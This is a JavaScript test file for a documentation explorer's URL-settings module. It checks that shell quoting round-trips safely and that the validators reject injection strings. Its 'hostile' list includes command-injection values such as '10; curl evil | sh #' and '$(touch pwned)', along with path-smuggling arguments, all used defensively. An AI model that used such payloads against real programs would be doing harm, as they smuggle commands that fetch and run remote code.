// Settings out of the address: what each may be, and that no command which the page shows can be made to say anything else.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { require } from "./program.mjs";

// The module as the page has it, without its types.
const typescript = require("typescript");
const source = readFileSync(new URL("../../docs/explorer/src/settings.ts", import.meta.url), "utf8");
const compiled = typescript.transpileModule(source, { compilerOptions: { module: "ESNext", target: "ES2022" } }).outputText;
const { commandLine, named, number, oneOf, rates, shellWord, text, weights, whole, wrongSettings } = await import(`data:text/javascript,${encodeURIComponent(compiled)}`);

const hostile = ["10; curl evil | sh #", "$(touch pwned)", "`touch pwned`", "a'b", 'a"b', "a\nb", "a\\", "", " ", "~", "*", "-x", "--out=/etc/passwd", "a&b", "a|b", "a>b", "ä", "\u202e", "!x", "{a,b}", "#", "a b", "1e999", "0x10", "NaN", "Infinity", "1;", "constructor", "__proto__"];
const parts = { model: ["llama-3.1-8b"], verifier: [{ name: "token" }] };

test("a word comes out of a shell as it went in", () => {
  for (const word of [...hostile, ...hostile.map((own) => `x${own}y`)]) {
    const out = execFileSync("bash", ["-c", `printf '%s\\0' ${commandLine(["a", word, "b"])}`], { encoding: "utf8" });
    assert.deepEqual(out.split("\0").slice(0, -1), ["a", word, "b"], shellWord(word));
  }
  assert.equal(commandLine(["specsim", "plan", "--position-rates", "0.7,0.45", "--set", "a.b=c"]), "specsim plan --position-rates 0.7,0.45 --set a.b=c");
});

test("nothing hostile is a number, a whole number, a choice or a name", () => {
  for (const value of hostile)
    for (const [kind, allowed] of Object.entries({ number: number(-1e9, 1e9), whole: whole(0, 1e9), oneOf: oneOf("fixed", "goodput"), named: named("model", "none"), rule: named("verifier") }))
      assert.notEqual(allowed(value, parts), "", `${kind} takes ${JSON.stringify(value)}`);
  for (const value of hostile.filter((own) => own.trim() !== "" && !/^[-+0-9eE.%]+$/.test(own))) {
    assert.notEqual(rates(value, parts), "", `rates take ${JSON.stringify(value)}`);
    if (!/^[0-9;]*$/.test(value)) assert.notEqual(weights(value, parts), "", `weights take ${JSON.stringify(value)}`);
  }
});

test("what a view writes itself is taken", () => {
  for (const value of ["0", "1", "0.7", "1e-7", "2.5e+21", "-3"]) assert.equal(number(-5, 1e30)(value, parts), "", value);
  for (const value of ["0", "16", "100000"]) assert.equal(whole(0, 1e6)(value, parts), "", value);
  assert.equal(oneOf("", "yes")("", parts), "");
  assert.equal(named("model", "none")("none", parts) + named("model")("llama-3.1-8b", parts) + named("verifier")("token", parts), "");
  assert.equal(rates("70%, 45%,0.31", parts) + weights("5,3,2;4,4,2e-3", parts) + text("any; $(thing)", parts), "");
});

test("every wrong setting is told with what is allowed", () => {
  const checks = { longest: whole(1, 32), gpus: oneOf("1", "2"), batch: whole(1, 512) };
  assert.deepEqual(wrongSettings({ longest: "10; curl x | sh #", gpus: "1", batch: "0", other: ";" }, checks, parts), ['longest: "10; curl x | sh #", allowed: a whole number in [1, 32]', 'batch: "0", allowed: a whole number in [1, 512]']);
  assert.deepEqual(wrongSettings({ __proto__: null, constructor: "x", toString: "y" }, checks, parts), []);
});

test("commands are put together from words", () => {
  for (const name of ["decide", "serve"]) {
    const source = readFileSync(new URL(`../../docs/explorer/src/views/${name}.ts`, import.meta.url), "utf8");
    assert.match(source, new RegExp(`commandLine\\(|\\["specsim", "${name === "decide" ? "plan" : "serve"}"`));
    assert.doesNotMatch(source, /[`"]specsim (plan|serve) /);
  }
});
